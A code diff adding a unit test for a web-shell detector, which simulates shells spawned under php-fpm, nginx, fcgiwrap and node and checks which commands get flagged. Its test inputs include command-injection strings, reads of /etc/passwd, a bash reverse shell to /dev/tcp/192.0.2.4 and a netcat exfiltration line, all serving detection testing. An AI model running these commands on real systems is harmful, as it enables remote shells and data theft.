@@ -989,6 +989,169 @@ static void test_off_hours(void **state)
 	sw_users_free(u);
 }
 
+/* pid forked by ppid and exec'd to exe with argv ("a\0b\0"), judged. */
+static void run_in(struct sw_lineage *l, int ppid, int pid, const char *exe,
+		   const char *argv, size_t n)
+{
+	fork_at(l, ppid, pid, (uint64_t)pid * S, false);
+	exec_in(l, pid, exe, argv, n, (uint64_t)pid * S);
+}
+
+#define RUN(l, ppid, pid, exe, argv) run_in(l, ppid, pid, exe, argv, sizeof(argv))
+
+/* A shell running cmd (sh -c CMD) as pid, below ppid: tagged web-shell? */
+static bool web_cmd(struct sw_lineage *l, int ppid, int pid, const char *cmd)
+{
+	char argv[256];
+	int n = snprintf(argv, sizeof(argv), "sh%c-c%c%s", 0, 0, cmd);
+
+	assert_true(n > 0 && (size_t)n < sizeof(argv));
+	run_in(l, ppid, pid, "/usr/bin/dash", argv, (size_t)n + 1);
+	return tagged("web-shell");
+}
+
+/*
+ * web-shell on real shapes: below a server at any depth, through fcgiwrap,
+ * a fixed command against an injected one, each marker, node served or
+ * run from a terminal.
+ */
+static void test_webshell(void **state)
+{
+	struct sw_users *u = sw_users_new();
+	struct sw_lineage *l = table(1000, u);
+	static const char *const injected[] = {
+		"ping -c 1 127.0.0.1;id", "ping -c 1 127.0.0.1 && uname -a",
+		"ping -c 1 nohost || id", "ping -c 1 127.0.0.1|cat /etc/passwd",
+		"ping -c 1 127.0.0.1 & id", "ping -c 1 127.0.0.1\nid",
+		"ping -c 1 $(whoami)", "ping -c 1 `whoami`",
+		"ping -c 1 \"$(id)\"", "ping -c 1 127.0.0.1 >/var/www/x.php",
+		"ping -c 1 127.0.0.1 </etc/passwd", "ping -c 1 <(id)",
+		"bash -i >& /dev/tcp/192.0.2.4/4444 0>&1",
+		"ping -c 1 '127.0.0.1' >'/dev/tcp/192.0.2.4/80'",
+		"id", "uname -a", "cat /etc/passwd", "python3 -c 'import pty'",
+	};
+	static const char *const fixed[] = {
+		"ping -c 1 127.0.0.1", "ping -c 1 '127.0.0.1;id'",
+		"ping -c 1 \"127.0.0.1;id\"", "ping -c 1 127.0.0.1\\;id",
+		"ping -c 1 127.0.0.1 2>&1", "ping -c 1 127.0.0.1 >/dev/null 2>&1",
+		"convert in.png out.jpg 2>/dev/null", "cat /var/www/page.html",
+		"python3 /srv/app/resize.py", "curl -s http://127.0.0.1/api",
+	};
+	int pid = 100;
+
+	fork_at(l, 0, 1, 1 * S, false);
+	EXEC_IN(l, 1, "/usr/lib/systemd/systemd", "/sbin/init", 1 * S);
+	/* php-fpm: master and worker, below systemd. */
+	RUN(l, 1, 10, "/usr/sbin/php-fpm8.2", "php-fpm: master process");
+	RUN(l, 10, 11, "/usr/sbin/php-fpm8.2", "php-fpm: pool www");
+	for (unsigned i = 0; i < sizeof(injected) / sizeof(injected[0]); i++) {
+		if (!web_cmd(l, 11, pid++, injected[i]))
+			fail_msg("not tagged: %s", injected[i]);
+	}
+	for (unsigned i = 0; i < sizeof(fixed) / sizeof(fixed[0]); i++)
+		if (web_cmd(l, 11, pid++, fixed[i]))
+			fail_msg("tagged: %s", fixed[i]);
+	/* What the injected shell runs is judged too; the fixed ping is not. */
+	assert_true(web_cmd(l, 11, 300, "ping -c 1 127.0.0.1;id"));
+	RUN(l, 300, 301, "/usr/bin/ping", "ping\0-c\0" "1\0" "127.0.0.1");
+	assert_int_equal(ev.n_tags, 0);
+	RUN(l, 300, 302, "/usr/bin/id", "id");
+	assert_true(tagged("web-shell"));
+	/* Clusters: -ec is -c; -o takes its argument; a shell on its input. */
+	RUN(l, 11, 303, "/usr/bin/bash", "bash\0-ec\0ping -c 1 x;id");
+	assert_true(tagged("web-shell"));
+	RUN(l, 11, 304, "/usr/bin/bash", "bash\0-o\0pipefail\0-c\0ping -c 1 x");
+	assert_int_equal(ev.n_tags, 0);
+	RUN(l, 11, 305, "/usr/bin/dash", "sh\0-i");
+	assert_true(tagged("web-shell"));
+	RUN(l, 11, 306, "/usr/bin/busybox", "busybox\0sh\0-c\0ls;id");
+	assert_true(tagged("web-shell"));
+
+	/* Deep: nginx, a wrapper chain of ten, then the shell. */
+	RUN(l, 1, 20, "/usr/sbin/nginx", "nginx: master process");
+	RUN(l, 20, 21, "/usr/sbin/nginx", "nginx: worker process");
+	RUN(l, 21, 400, "/usr/bin/env", "env");
+	for (int i = 401; i < 410; i++)
+		RUN(l, i - 1, i, "/usr/bin/timeout", "timeout\0" "5");
+	assert_true(web_cmd(l, 409, 410, "ls|nc 192.0.2.4 80"));
+	RUN(l, 409, 411, "/usr/bin/whoami", "whoami");
+	assert_true(tagged("web-shell"));
+	RUN(l, 409, 412, "/usr/bin/cat", "cat\0/var/www/index.html");
+	assert_int_equal(ev.n_tags, 0);
+
+	/* fcgiwrap, below systemd's socket and not below nginx. */
+	RUN(l, 1, 30, "/usr/sbin/fcgiwrap", "/usr/sbin/fcgiwrap\0-s\0unix:/run/f.sock");
+	RUN(l, 30, 31, "/usr/bin/bash", "/bin/bash\0/usr/lib/cgi-bin/x.sh");
+	assert_int_equal(ev.n_tags, 0);		/* the CGI is the app */
+	RUN(l, 31, 32, "/usr/bin/ping", "ping\0-c\0" "1\0" "127.0.0.1");
+	assert_int_equal(ev.n_tags, 0);
+	RUN(l, 31, 33, "/usr/bin/uname", "uname\0-a");	/* its eval'd query */
+	assert_true(tagged("web-shell"));
+
+	/* node: a server when started by systemd... */
+	RUN(l, 1, 40, "/usr/bin/node", "node\0/srv/app/server.js");
+	assert_true(web_cmd(l, 40, 41, "ping -c 1 127.0.0.1;id"));
+	assert_false(web_cmd(l, 40, 42, "ping -c 1 127.0.0.1"));
+	/* ...not from a terminal's shell, nor by ssh or cron. */
+	RUN(l, 1, 50, "/usr/bin/xterm", "xterm");
+	RUN(l, 50, 51, "/usr/bin/bash", "bash");
+	RUN(l, 51, 52, "/usr/bin/make", "make");
+	RUN(l, 52, 53, "/usr/bin/node", "node\0build.js");
+	assert_false(web_cmd(l, 53, 54, "ls dist && rm -rf dist/*"));
+	RUN(l, 53, 55, "/usr/bin/id", "id");
+	assert_int_equal(ev.n_tags, 0);
+	RUN(l, 1, 60, "/usr/sbin/cron", "/usr/sbin/cron\0-f");
+	RUN(l, 60, 61, "/usr/bin/dash", "/bin/sh\0-c\0node /srv/job.js");
+	RUN(l, 61, 62, "/usr/bin/node", "node\0/srv/job.js");
+	assert_false(web_cmd(l, 62, 63, "tar c /srv | gzip >/backup/x.tgz"));
+	RUN(l, 51, 64, "/usr/bin/bash", "-bash");	/* a login shell */
+	RUN(l, 64, 65, "/usr/bin/node", "node\0x.js");
+	assert_false(web_cmd(l, 65, 66, "a;b"));
+	/* python counts when listed. */
+	RUN(l, 1, 70, "/usr/bin/python3.11", "python3\0/srv/app.py");
+	assert_false(web_cmd(l, 70, 71, "ping -c 1 x;id"));
+	rules.net.apps.v[rules.net.apps.n++] = "python3";
+	assert_true(web_cmd(l, 70, 72, "ping -c 1 x;id"));
+	RUN(l, 51, 73, "/usr/bin/python3.11", "python3\0app.py");
+	assert_false(web_cmd(l, 73, 74, "ping -c 1 x;id"));
+
+	/* markers tune the judgement; a recon command stays one. */
+	rules.net.markers.n = 0;
+	rules.net.markers.v[rules.net.markers.n++] = "semicolon";
+	assert_true(web_cmd(l, 11, 500, "ping x;ls"));
+	assert_false(web_cmd(l, 11, 501, "ping x|ls"));
+	assert_true(web_cmd(l, 11, 502, "id"));
+	assert_null(sw_rules_net_finish(&rules));
+	rules.net.markers.v[rules.net.markers.n++] = "pipes";
+	assert_non_null(sw_rules_net_finish(&rules));
+	rules.net.markers.n--;
+	rules.net.webshell_enabled = false;
+	assert_false(web_cmd(l, 11, 503, "ping x;id"));
+	rules.net.webshell_enabled = true;
+
+	/* Without the table: the line's ancestry, names only, deep too. */
+	sw_event_reset(&ev, SW_EV_EXEC);
+	ev.exe = "/usr/bin/id";
+	ev.have = SW_HAVE_EXE;
+	ev.n_ancestry = 5;
+	for (int i = 0; i < 4; i++)
+		ev.ancestry[i] = (struct sw_ancestor){ 600 + i, "bash", "/usr/bin/bash" };
+	ev.ancestry[4] = (struct sw_ancestor){ 30, "fcgiwrap", "/usr/sbin/fcgiwrap" };
+	sw_detect_event(det, NULL, &ev);
+	assert_true(tagged("web-shell"));
+	ev.n_tags = 0;
+	ev.ancestry[4] = (struct sw_ancestor){ 40, "node", "/usr/bin/node" };
+	sw_detect_event(det, NULL, &ev);
+	assert_true(tagged("web-shell"));
+	ev.n_tags = 0;
+	ev.n_ancestry = 6;
+	ev.ancestry[5] = (struct sw_ancestor){ 10, "sshd", "/usr/sbin/sshd" };
+	sw_detect_event(det, NULL, &ev);
+	assert_int_equal(ev.n_tags, 0);
+	sw_lineage_free(l);
+	sw_users_free(u);
+}
+
 /* orphaned rides on reparent events, and can be turned off. */
 static void test_orphaned(void **state)
 {
@@ -1237,6 +1400,7 @@ int main(void)
 		cmocka_unit_test_setup(test_cron, setup),
 		cmocka_unit_test_setup(test_cron_path, setup),
 		cmocka_unit_test_setup(test_off_hours, setup),
+		cmocka_unit_test_setup(test_webshell, setup),
 		cmocka_unit_test_setup(test_orphaned, setup),
 		cmocka_unit_test_setup(test_storm_window, setup),
 		cmocka_unit_test_setup(test_slots, setup),
